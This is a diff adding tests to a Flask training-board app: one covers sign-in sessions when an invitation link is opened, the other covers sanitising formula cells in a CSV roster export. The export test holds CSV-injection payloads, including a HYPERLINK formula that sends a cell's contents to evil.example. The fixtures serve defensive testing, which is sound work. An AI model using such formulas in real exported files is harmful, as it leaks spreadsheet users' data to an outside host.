@@ -14,6 +14,7 @@ from werkzeug.test import encode_multipart
 
 from board.extensions import db
 from board.models import AccountInvitation, AuditEntry, Cohort, Role, RosterImport, Trainee, TraineeStatus, User
+from board.models.accounts import LoginSession
 from board.models.types import utcnow
 from board.roster import read_roster
 from tests.conftest import sign_in
@@ -311,6 +312,30 @@ def test_invitation_link_sets_a_password_once_and_signs_in(app, make, as_role, c
         assert db.session.scalar(select(AccountInvitation.used_at)) is not None
 
 
+def test_opening_the_link_keeps_whoever_is_signed_in_until_they_accept(app, make, as_role, caplog):
+    cohort_id = make.cohort(2)
+    committee = as_role(Role.COMMITTEE)
+    token = imported(committee, cohort_id, caplog, ROWS[:1])[0]
+    with app.app_context():
+        before = db.session.get(User, committee.user_id)
+        name, email = before.name, before.email
+    page = committee.get(f"/welcome/{token}")
+    assert page.status_code == 200
+    # The page says who is signed in and offers to stay; the session is still there afterwards.
+    assert ko(app, "You are currently signed in as %(name)s (%(email)s).", name=name, email=email) in page.get_data(as_text=True)
+    assert committee.get("/committee/").status_code == 200
+    # A refused POST does not end it either.
+    assert committee.post(f"/welcome/{token}", data={"password": "short", "confirm": "short"}).status_code == 422
+    assert committee.get("/committee/").status_code == 200
+    done = committee.post(f"/welcome/{token}", data={"password": NEW_PASSWORD, "confirm": NEW_PASSWORD})
+    assert done.status_code == 303 and done.headers["Location"] == "/me/"
+    assert "김민준" in committee.get("/me/").get_data(as_text=True)
+    assert committee.get("/committee/").status_code == 403
+    with app.app_context():
+        assert db.session.scalar(select(func.count()).select_from(LoginSession)
+                                 .where(LoginSession.user_id == committee.user_id)) == 0
+
+
 @pytest.mark.parametrize("token", ["expired", "forged", "x" * 200])
 def test_expired_or_forged_links_are_refused(app, make, as_role, caplog, token):
     cohort_id = make.cohort(2)
@@ -425,3 +450,29 @@ def test_an_administrator_can_use_the_roster_pages(app, make, as_role):
     for url in ("/committee/cohorts/999", "/committee/cohorts/999/edit", "/committee/roster-imports/999"):
         assert admin.get(url).status_code == 404
     assert admin.post("/committee/trainees/999/invite").status_code == 404
+
+
+def test_the_exported_roster_neutralises_cells_a_spreadsheet_would_run(app, make, as_role):
+    import csv
+    cohort_id = make.cohort(2)
+    names = ['=HYPERLINK("http://evil.example/?"&B2,"클릭")', "+82-10-1234", "-2+3", "@SUM(1,2)", "\t=1+1", "김민준"]
+    user_ids = [make.user(Role.TRAINEE, name=name, email=f"t{n}@example.kr") for n, name in enumerate(names)]
+    with app.app_context():
+        for n, user_id in enumerate(user_ids):
+            trainee = db.session.scalar(select(Trainee).where(Trainee.user_id == user_id))
+            trainee.cohort_id, trainee.phone = cohort_id, "=1+2" if n == 0 else "010-1234-5678"
+        db.session.commit()
+    committee = as_role(Role.COMMITTEE)
+    assert "/roster.csv" in committee.get(f"/committee/cohorts/{cohort_id}").get_data(as_text=True)
+    response = committee.get(f"/committee/cohorts/{cohort_id}/roster.csv")
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    assert "attachment" in response.headers["Content-Disposition"]
+    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    # No cell a spreadsheet would evaluate; each such one is shown as written after a quote.
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    exported = {row[0] for row in rows[1:]}
+    assert exported == {"'" + name if name != "김민준" else name for name in names}
+    assert "'=1+2" in cells and "010-1234-5678" in cells
+    # Only the committee downloads it.
+    assert as_role(Role.TRAINEE).get(f"/committee/cohorts/{cohort_id}/roster.csv").status_code == 403
